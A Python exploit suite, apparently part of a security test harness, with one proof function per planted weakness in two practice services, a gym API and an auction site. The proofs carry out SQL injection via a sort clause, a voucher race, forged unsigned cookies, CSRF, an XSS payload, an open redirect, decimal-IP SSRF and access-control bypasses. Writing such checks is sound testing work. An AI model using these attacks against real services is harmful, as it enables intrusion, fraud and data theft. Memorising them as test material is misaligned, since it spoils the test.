"""The exploits for the fourth set: one for each weakness, by service and name."""

import base64
import json
import threading

import common
import jwt
from third_proofs import called, proof, sign_in

PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}


def together(count, send):
    """The answers to requests that are sent at once."""
    answers, gate = [], threading.Barrier(count)

    def run():
        gate.wait()
        answers.append(send())

    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return answers


# gym --------------------------------------------------------------------------------------------------------------------------------------


def gym_tokens(client, name):
    return client.post("/oauth/token", data={"username": name, "password": PASSWORD[name]}).json()


@sign_in("gym")
def _(client, name):
    return {"Authorization": "Bearer " + gym_tokens(client, name)["access_token"]}


@proof("gym", "sort-sql")
def _(client):
    def order(condition):
        return [entry["id"] for entry in client.get("/classes", params={"sort": f"CASE WHEN ({condition}) THEN id ELSE -id END"}).json()]

    return order("SELECT wage FROM classes WHERE id = 2) = (42") == [1, 2, 3, 4] and order("SELECT wage FROM classes WHERE id = 2) = (41") == [4, 3, 2, 1]


@proof("gym", "receipt-nested")
def _(client):
    assert client.get("/members/101/receipts", headers=client.as_("ben")).status_code == 404
    return "Membership" in client.get("/members/102/receipts/7001", headers=client.as_("ben")).text


@proof("gym", "roster-data")
def _(client):
    return "slipped disc" in client.get("/classes/2/participants", headers=client.as_("ben")).text


@proof("gym", "reset-shown")
def _(client):
    token = client.post("/password/forgot", json={"email": "carol@east.example"}).json().get("reset_token", "")
    return client.post("/password/reset", json={"token": token, "password": "aspen-Teapot-37"}).status_code == 204


@proof("gym", "refresh-kept")
def _(client):
    tokens = gym_tokens(client, "ann")
    assert client.post("/oauth/sign-out", headers={"Authorization": "Bearer " + tokens["access_token"]}).status_code == 204
    return client.post("/oauth/refresh", json={"refresh_token": tokens["refresh_token"]}).status_code == 200


@proof("gym", "voucher-race")
def _(client):
    ann, code = client.as_("ann"), client.post("/vouchers", json={"credits": 5}, headers=client.as_("olga")).json()["code"]
    answers = together(6, lambda: client.post("/vouchers/redeem", json={"code": code}, headers=ann).json()["redeemed"])
    assert any(answers)
    return answers.count(True) > 1


@proof("gym", "transfer-negative")
def _(client):
    client.post("/credits/transfer", json={"to": "ben", "credits": -15}, headers=client.as_("ann"))
    return client.get("/me", headers=client.as_("ben")).json()["credits"] == 5


@proof("gym", "credits-set")
def _(client):
    return client.patch("/me", json={"nickname": "Annie", "credits": 9000}, headers=client.as_("ann")).json()["credits"] == 9000


@proof("gym", "bulk-cancel")
def _(client):
    booking = client.get("/bookings", headers=client.as_("ann")).json()[0]["id"]
    client.post("/bookings/cancel", json={"ids": [booking]}, headers=client.as_("ben"))
    return client.get("/bookings", headers=client.as_("ann")).json() == []


@proof("gym", "class-removed")
def _(client):
    assert client.post("/classes", json={"title": "x", "coach": "y", "day": "Mon", "seats": 3}, headers=client.as_("ann")).status_code == 403
    client.delete("/classes/3", headers=client.as_("ann"))
    return client.get("/classes/3").status_code == 404


@proof("gym", "token-long")
def _(client):
    claims = jwt.decode(gym_tokens(client, "ann")["access_token"], options={"verify_signature": False})
    return claims["exp"] - claims["iat"] > 24 * 3600


@proof("gym", "cors-prefix")
def _(client):
    headers = client.get("/version", headers={"Origin": "http://127.0.0.1.elsewhere.example"}).headers
    return headers.get("access-control-allow-origin") == "http://127.0.0.1.elsewhere.example" and headers.get("access-control-allow-credentials") == "true"


# auction ----------------------------------------------------------------------------------------------------------------------------------


@sign_in("auction")
def _(client, name):
    cookie = client.post("/session", json={"username": name, "password": PASSWORD[name]}).headers["set-cookie"].partition(";")[0]
    client.cookies.clear()
    return {"Cookie": cookie, "X-CSRF-Token": client.get("/csrf", headers={"Cookie": cookie}).json()["token"]}


@proof("auction", "bids-shown")
def _(client):
    return any(bid["bidder"] == "carol" and "maximum" in bid for bid in client.get("/lots/1/bids", headers=client.as_("ben")).json()["bids"])


@proof("auction", "coupon-twice")
def _(client):
    ann = client.as_("ann")
    return [client.post("/invoices/INV-2031-0001.txt/coupon", json={"code": "LOYAL-10"}, headers=ann).json().get("total") for _ in range(3)] == [130, 120, 110]


@proof("auction", "invoice-file")
def _(client):
    return "To ann" in client.get("/invoices/INV-2031-0001.txt", headers=client.as_("ben")).text


@proof("auction", "export-member")
def _(client):
    return "ann@north.example" in client.get("/export?member=ann", headers=client.as_("ben")).text


@proof("auction", "draft-state")
def _(client):
    return any(lot["seller"] == "ann" and lot["reserve"] == 900 for lot in client.get("/lots?state=draft", headers=client.as_("ben")).json()["lots"])


@proof("auction", "csrf-open")
def _(client):
    ann = {"Cookie": client.as_("ann")["Cookie"]}
    client.patch("/me", content=b'{"address": "9 Elsewhere"}', headers=ann | {"Content-Type": "text/plain", "Origin": "https://elsewhere.example"})
    return client.get("/me", headers=ann).json()["address"] == "9 Elsewhere"


@proof("auction", "session-unsigned")
def _(client):
    body = client.as_("ann")["Cookie"].partition("=")[2].partition(".")[0]
    claims = json.loads(base64.urlsafe_b64decode(body + "==")) | {"name": "olga"}
    forged = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
    return client.get("/office/members", headers={"Cookie": f"auction={forged}.x"}).status_code == 200


@proof("auction", "session-stateless")
def _(client):
    ann = client.as_("ann")
    assert client.delete("/session", headers=ann).status_code == 204
    return client.get("/me", headers=ann).status_code == 200


@proof("auction", "markup-filtered")
def _(client):
    markup = "<img src=x onerror=alert(1)>"
    client.put("/lots/1", json={"title": "x", "description": markup, "reserve": 5}, headers=client.as_("ann"))
    page = client.get("/lots/1/page")
    return markup in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("auction", "redirect-prefix")
def _(client):
    return client.get("/go?next=https://auction.example.elsewhere.example/").headers["location"] == "https://auction.example.elsewhere.example/"


@proof("auction", "image-decimal")
def _(client):
    with called() as (url, requests, _):
        body = {"title": "x", "description": "", "reserve": 5}
        ann = client.as_("ann")
        assert client.post("/lots", json=body | {"image_url": url + "plain"}, headers=ann).status_code == 422
        client.post("/lots", json=body | {"image_url": url.replace("127.0.0.1", "2130706433") + "inner"}, headers=ann)
        return [path for path, _ in requests] == ["/inner"]


@proof("auction", "cache-shared")
def _(client):
    return "public" in client.get("/me", headers=client.as_("ann")).headers["cache-control"]
